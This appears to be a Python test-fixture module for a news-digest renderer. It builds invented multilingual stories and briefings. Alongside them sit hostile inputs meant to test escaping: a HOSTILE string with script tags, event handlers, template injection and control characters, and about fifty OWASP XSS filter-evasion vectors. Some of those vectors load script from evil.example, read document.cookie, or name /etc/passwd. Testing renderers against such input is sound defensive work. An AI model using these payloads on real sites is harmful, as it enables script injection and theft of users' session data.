"""Briefings to render: invented articles of invented outlets, with every shape that a page has to carry."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

from digest.model import (
    Article,
    Briefing,
    Correction,
    DateCandidate,
    Difference,
    DifferingValue,
    Excerpt,
    Headline,
    Join,
    LeftOut,
    Point,
    Rank,
    Report,
    Story,
    TimelineEntry,
)

ZONE = timezone(timedelta(hours=9))
SLOT = datetime(2026, 11, 21, 7, 0, tzinfo=ZONE)
SETTINGS = "sha256:" + hashlib.sha256(b"settings").hexdigest()
RLO, ESC, BELL = "\u202e", "\x1b", "\x07"
LONG = "Wasserstraßenverwaltung" * 220  # 5,060 characters without a blank
HOSTILE = f"{{{{7*7}}}} <script>alert(1)</script> {RLO}gpj.exe{ESC}[2J{BELL} <img src=x onerror=alert(2)> \"'&lt;b&gt;"


def article(id_: str, source: str, title: str, text: str, **more: Any) -> Article:
    """An article with a hash of its own and an origin that follows from its source."""
    more.setdefault("origin", f"feeds/{source.lower().replace(' ', '-')}/{id_}.txt")
    more.setdefault("language", "en")
    more.setdefault("title_from", "head" if title else None)
    return Article(
        id_,
        sha256=hashlib.sha256(text.encode("utf-8", "replace")).hexdigest(),
        source=source,
        title=title,
        text=text,
        **more,
    )


def said(of: Article, words: str) -> Excerpt:
    """The excerpt of `of` that reads `words`."""
    start = of.text.index(words)
    return Excerpt(of, start, start + len(words))


def _ferry() -> Story:
    post = article(
        "a1",
        "The Elmsworth Post",
        "Council reopens the north ferry after three years",
        "The council voted nine to four on Friday to reopen the north ferry, three years after a burst boiler tied it up at "
        "the old coal quay.\n\nBoats will cross every half hour from 14 December, and the fare stays at two crowns.\n\n"
        "“Nobody on the island should have to plan a day around a bus,” said Ida Brandt, who chairs the harbour board.\n\n"
        "Repairs to the slipway cost 14 million crowns, of which the region pays half. The rest comes out of the town's "
        "reserve, which had been set aside for a swimming hall.",
        authors=("Mads Oller", "Ruth Quayle"),
        published=datetime(2026, 11, 20, 18, 5, tzinfo=timezone(timedelta(hours=1))),
        published_from="metadata",
        dates=(
            DateCandidate(date(2023, 1, 19), "site header", "another report of the story says 20 November 2026"),
            DateCandidate(date(2026, 11, 20), "inline"),
        ),
    )
    daily = article(
        "a2",
        "Harbour Daily",
        "Ferry back in December",
        "ELMSWORTH — After three winters without a boat, the north ferry returns on 14 December, the council decided by nine "
        "votes to four.\n\nThe bill for the slipway has reached 17 million crowns, according to papers laid before the "
        "meeting. A petition against the vote gathered 612 names.\n\n“Nobody on the island should have to plan a day around "
        "a bus,” Ms Brandt told the meeting.",
        url="https://harbour.example/2026/11/20/ferry?from=front",
        agency="Elm News",
        published=date(2026, 11, 20),
        published_from="feed",
        origin="feeds/daily.jsonl",
        member="line 3",
    )
    echo = article(
        "a3",
        "Coast Echo",
        "Ferry back in December",
        daily.text,
        url="https://echo.example/news/ferry-back",
        agency="Elm News",
        published=datetime(2026, 11, 20, 20, 40, tzinfo=UTC),
        published_from="json-ld",
    )
    earlier = article(
        "a0",
        "Harbour Daily",
        "Ferry repairs near their end",
        "Divers finished the last weld under the north ferry on Wednesday. The inspector comes on Thursday morning, and the "
        "council votes a day later.",
        published=date(2026, 11, 18),
        published_from="feed",
        origin="feeds/daily.jsonl",
        member="line 1",
    )
    return Story(
        "st-7kq2m9",
        (Report((earlier,), "Harbour Daily"), Report((post,), "The Elmsworth Post"), Report((daily, echo), "Elm News")),
        joined=(Join(("a1", "a2"), 0.8712345, ("headline 0.41", "names 0.9", "a shared quotation")),),
        headline=Headline(post.title, "a1"),
        points=(
            Point(
                said(post, post.text.split("\n\n")[0]),
                (said(daily, daily.text.split("\n\n")[0][12:]),),
                reports=2,
                new=True,
            ),
            Point(
                said(post, "Boats will cross every half hour from 14 December, and the fare stays at two crowns."),
                new=True,
            ),
            Point(
                said(post, post.text.split("\n\n")[2]),
                (said(daily, daily.text.split("\n\n")[2]),),
                reports=2,
                speaker="Ida Brandt",
                new=True,
            ),
            Point(said(earlier, "Divers finished the last weld under the north ferry on Wednesday."), new=False),
        ),
        differences=(
            Difference(
                "the cost of repairs to the slipway",
                "money",
                (
                    DifferingValue("14 million crowns", said(post, "14 million crowns"), post.published),
                    DifferingValue("17 million crowns", said(daily, "17 million crowns"), daily.published),
                    DifferingValue("17 million crowns", said(echo, "17 million crowns"), echo.published),
                ),
            ),
        ),
        only_in=(
            said(daily, "A petition against the vote gathered 612 names."),
            said(post, "The rest comes out of the town's reserve, which had been set aside for a swimming hall."),
        ),
        timeline=(
            TimelineEntry(date(2026, 11, 18), said(earlier, earlier.text.split(". ")[0] + ".")),
            TimelineEntry(date(2026, 11, 20), said(post, post.text.split("\n\n")[0])),
        ),
        rank=Rank(3.2100000001, ("3 independent voices", "published 4 h ago", "watch word: ferry")),
    )


def _alone(id_: str, of: Article, *points: str, derived: bool = False, **more: Any) -> Story:
    """A story of one article."""
    head = Headline(of.title or points[0].split(",")[0], of.id, derived=derived)
    return Story(
        id_,
        (Report((of,), of.agency or of.source),),
        headline=head,
        points=tuple(Point(said(of, words)) for words in points),
        rank=Rank(1.0, ("1 report", "published today")),
        **more,
    )


def _observatory() -> Story:
    one = article(
        "b1",
        "Kestrel Science Wire",
        "A second ring found around the dwarf planet Orrin",
        "Astronomers at the Tallow Ridge observatory have found a second ring around the dwarf planet Orrin. The ring is "
        "about 40 kilometres wide and lies further out than theory allows.\n\nThe team watched a faint star blink twice as "
        "Orrin passed in front of it. “We checked the shutter first, the clock second and only then the sky,” said Noor "
        "Haddad, who led the work.",
        authors=("Jun Abbott",),
        published=datetime(2026, 11, 20, 6, 30, tzinfo=UTC),
        published_from="metadata",
        url="https://kestrel.example/orrin-second-ring",
    )
    two = article(
        "b2",
        "The Meridian",
        "Orrin has two rings, and nobody knows why",
        "The dwarf planet Orrin wears two rings, not one, a team at Tallow Ridge reported on Thursday. The outer ring is 70 "
        "kilometres wide, by a first estimate. It ought to have gathered into a moon long ago.",
        published=date(2026, 11, 19),
        published_from="inline",
    )
    return Story(
        "st-orrin",
        (Report((one,), one.source), Report((two,), two.source)),
        headline=Headline(one.title, "b1"),
        points=(
            Point(
                said(
                    one,
                    "Astronomers at the Tallow Ridge observatory have found a second ring around the dwarf planet Orrin.",
                ),
                (
                    said(
                        two,
                        "The dwarf planet Orrin wears two rings, not one, a team at Tallow Ridge reported on Thursday.",
                    ),
                ),
                reports=2,
            ),
            Point(
                said(
                    one,
                    "“We checked the shutter first, the clock second and only then the sky,” said Noor Haddad, who led the work.",
                ),
                speaker="Noor Haddad",
            ),
            Point(said(two, "It ought to have gathered into a moon long ago.")),
        ),
        differences=(
            Difference(
                "width of the ring",
                "count",
                (
                    DifferingValue("40 kilometres", said(one, "40 kilometres"), one.published),
                    DifferingValue("70 \nkilometres", said(two, "70 kilometres"), two.published),
                ),
            ),
        ),
        rank=Rank(2.5, ("2 independent voices", "published 15 h ago")),
    )


def _arabic() -> Story:
    one = article(
        "c1",
        "صحيفة الميناء",
        "مجلس المدينة يعيد فتح السوق القديم بعد الترميم",
        "أعلن مجلس المدينة يوم الجمعة إعادة فتح السوق القديم بعد ترميم استمر عامين. وقالت رئيسة اللجنة سلمى العطار إن "
        "المشروع كلّف 3.5 مليون دينار (بتمويل من Harbour Fund).\n\nوسيُسمح للتجار بالعودة إلى محالهم ابتداءً من 1 ديسمبر.",
        language="ar",
        published=datetime(2026, 11, 20, 12, 0, tzinfo=timezone(timedelta(hours=3))),
        published_from="json-ld",
        url="https://mina.example/souq",
        authors=("سلمى الخطيب",),
        origin="feeds/mina/souq.html",
    )
    first, second = one.text.split("\n\n")
    return _alone("st-souq", one, first.split(". ")[0] + ".", second)


def _korean() -> Story:
    one = article(
        "d1",
        "한빛일보",
        "북항 여객선, 3년 만에 다시 뜬다",
        "시의회는 금요일 북항 여객선 운항을 재개하기로 의결했다. "
        "운항은 12월 14일부터 30분 간격으로 이뤄지며 요금은 그대로 유지된다.",
        language="ko",
        published=date(2026, 11, 20),
        published_from="feed",
        origin="feeds/hanbit/1.txt",
    )
    return _alone("st-ko", one, *(part.strip() + "." for part in one.text.rstrip(".").split(". ")))


def _chinese() -> Story:
    one = article(
        "e1",
        "海港晚报",
        "",
        "北港渡轮将于十二月十四日恢复运营,票价维持两克朗不变。市议会星期五以九票赞成、四票反对通过了这项决定,三年前渡轮因锅炉爆裂而停航。"
        "港务委员会主席说:“岛上的居民不应该为了一班公共汽车而安排一整天的生活。”",
        language="zh",
        origin="feeds/haigang/1.txt",
        dates=(DateCandidate(date(2023, 1, 19), "site header", "the site prints today's date on every page"),),
    )
    sentences = [part + "。" for part in one.text.split("。")[:2]]
    return _alone("st-zh", one, *sentences, derived=True)


def _hostile() -> Story:
    one = article(
        "f1",
        f"Mirror {HOSTILE}",
        f"Title {HOSTILE}",
        f"The lead has {HOSTILE} in it.\n\nA word {LONG} does not end.\n\nAn address https://long.example/{'a' * 120} follows.",
        url="javascript:alert(3)",
        origin=f"feeds/{HOSTILE}.txt",
        member=f"entry {RLO}1",
        authors=(HOSTILE,),
        agency=HOSTILE,
        language='en" onload="alert(4)',
        published=datetime(2026, 11, 20, 1, 0, tzinfo=UTC),
        published_from=HOSTILE,
        dates=(DateCandidate(date(2023, 1, 19), HOSTILE, HOSTILE),),
    )
    return Story(
        '"><script>alert(5)</script>',
        (Report((one,), HOSTILE),),
        headline=Headline(one.title, "f1"),
        points=tuple(Point(said(one, words), speaker=HOSTILE) for words in one.text.split("\n\n")),
        differences=(Difference(HOSTILE, "other", (DifferingValue(HOSTILE, said(one, "lead"), one.published),)),),
        only_in=(said(one, "lead has"),),
        timeline=(TimelineEntry(date(2026, 11, 20), said(one, "lead")),),
        rank=Rank(0.5, (HOSTILE,)),
    )


def _short(id_: str, source: str, title: str, text: str) -> Story:
    one = article(id_, source, title, text, published=datetime(2026, 11, 20, 15, 0, tzinfo=UTC), published_from="feed")
    return _alone(f"st-{id_}", one, text)


def rich(*, hostile: bool = True) -> Briefing:
    """Eight stories in four languages: differences, a timeline, copies, doubted dates, and strings that mean harm."""
    stories = [
        _ferry(),
        _observatory(),
        _arabic(),
        _korean(),
        _chinese(),
        _short(
            "g1",
            "Fen Gazette",
            "Bakers agree to end night work",
            "The guild of bakers agreed on Friday to end work before four in the morning.",
        ),
        _short(
            "h1",
            "The Meridian",
            "Snow closes the Pell pass until spring",
            "The road over the Pell pass closed at noon and stays shut until March, the highways office said.",
        ),
    ]
    left_out = [
        LeftOut("feeds/broken.jsonl", "not JSON: expecting ',' at column 81", "line 7", "failed"),
        LeftOut("feeds/old/consent.html", "not an article: consent wall"),
        LeftOut("feeds/old/404.html", "not an article: error page"),
        LeftOut("feeds/old/505.html", "not an article: error page"),
        *(LeftOut(f"feeds/fen/{n}.txt", "1 report, below the 8 stories of this edition", None, "below the cut") for n in range(11)),
    ]  # fmt: skip
    if hostile:
        stories.append(_hostile())
        left_out.append(LeftOut(f"feeds/{HOSTILE}", HOSTILE, HOSTILE, "failed"))
    return Briefing(
        "morning",
        "Morning briefing",
        SLOT,
        datetime(2026, 11, 20, 7, 0, 12, tzinfo=ZONE),
        datetime(2026, 11, 21, 7, 0, 4, tzinfo=ZONE),
        tuple(stories),
        tuple(left_out),
        SETTINGS,
    )


def empty() -> Briefing:
    """A briefing of a day on which nothing came in."""
    return Briefing("morning", "Morning briefing", SLOT, None, SLOT, (), (), SETTINGS)


def single() -> Briefing:
    """A one-off briefing with one story, and one file left out."""
    left = (LeftOut("feeds/404.html", "not an article: error page"),)
    return Briefing("briefing", "Briefing", SLOT, None, SLOT, (_ferry(),), left, SETTINGS)


def second() -> Briefing:
    """A second day: a story runs on and corrects, one is corrected, one is new; sections, and another language kept apart."""
    ferry, orrin, souq = _ferry(), _observatory(), _arabic()
    post = next(one for one in ferry.articles if one.id == "a1")
    daily = next(one for one in ferry.articles if one.id == "a2")
    day = date(2026, 11, 20)
    now = said(post, "Repairs to the slipway cost 14 million crowns")
    running = replace(
        ferry,
        status="running",
        first_seen=date(2026, 11, 18),
        points=tuple(replace(point, new=True) for point in ferry.points),
        corrections=(
            Correction(day, post, "Repairs to the slipway cost 12 million crowns.", now),
            Correction(day, post, "The mayor abstained."),
            Correction(day, daily, None),
        ),
        section="Transport",
    )  # fmt: skip
    corrected = replace(
        orrin,
        status="corrected",
        first_seen=day,
        points=tuple(replace(point, new=False) for point in orrin.points),
        corrections=(Correction(day, orrin.articles[0], "A third ring found around Orrin", headline=True),),
        section="Science",
    )
    fresh = _short(
        "g1", "Fen Gazette", "Bakers agree to end night work", "The guild of bakers agreed to end night work."
    )
    return Briefing(
        "morning",
        "Morning briefing",
        SLOT,
        datetime(2026, 11, 20, 7, 0, 12, tzinfo=ZONE),
        datetime(2026, 11, 21, 7, 0, 4, tzinfo=ZONE),
        (fresh, running, corrected, replace(souq, apart=True)),
        (),
        SETTINGS,
    )


# Vectors of OWASP's cheat sheet on filter evasion (cheatsheetseries.owasp.org), in our own words where words stand in them.
OWASP = (
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(1)\"></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14; javascript:alert(1);">',
    "<SCRIPT/XSS SRC=https://evil.example/xss.js></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    '<IMG SRC="`<javascript:alert>`(1)"',
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<svg/onload=alert(1)>",
    "<BR SIZE=\"&{alert(1)}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://evil.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"https://evil.example/xssmoz.xml#xss\")}</STYLE>",
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
    '<BASE HREF="javascript:alert(1);//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<? echo(\'<SCR)\';echo(\'IPT>alert(1)</SCRIPT>\'); ?>',
    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '"><script>alert(1)</script>',
    "';alert(1)//\\';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "</details></article></main><h1>Out of the page</h1>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} {{ ''.__class__.__mro__ }}",
    "\u202ereversed\u2066 isolated\u2069 \u200fmarked\u061c",
    "W" * 5000,
)  # fmt: skip


def owasp(vector: str, number: int = 0) -> Story:
    """A story of two reports with `vector` in every field that a source can fill."""
    text = f"It begins with {vector} inside.\n\nThen a second sentence stands here with {vector} too."
    one, two = (
        article(
            f"x{number}-{n}",
            f"{vector} {n}",
            vector,
            text,
            origin=f"feeds/{vector}/{n}.txt",
            member=vector,
            url=vector,
            authors=(vector,),
            agency=vector,
            language=vector,
            published=datetime(2026, 11, 20, n, 0, tzinfo=UTC),
            published_from=vector,
            dates=(DateCandidate(date(2023, 1, 19), vector, vector),),
        )
        for n in (1, 2)
    )
    at = text.index(vector)
    whole, part = Excerpt(one, 0, text.index("\n")), Excerpt(two, at, at + len(vector))
    return Story(
        f"st-{vector}",
        (Report((one,), one.source), Report((two,), vector)),
        headline=Headline(vector, one.id),
        points=(Point(whole, (part,), reports=2, speaker=f"Spokesman {vector}"),),
        differences=(
            Difference(vector, "other", (DifferingValue(vector, part), DifferingValue(f"2 {vector}", whole))),
        ),
        only_in=(part,),
        timeline=(TimelineEntry(date(2026, 11, 20), part),),
        rank=Rank(1.0, (vector,)),
        status="running",
        corrections=(Correction(date(2026, 11, 20), one, vector, part),),
        section=vector,
    )


def hostile() -> Briefing:
    """Every vector in every field."""
    stories = tuple(owasp(vector, number) for number, vector in enumerate(OWASP))
    left = tuple(LeftOut(f"feeds/{vector}", vector, vector, "left out", vector) for vector in OWASP)
    return replace(second(), title=OWASP[0], stories=stories, left_out=left)
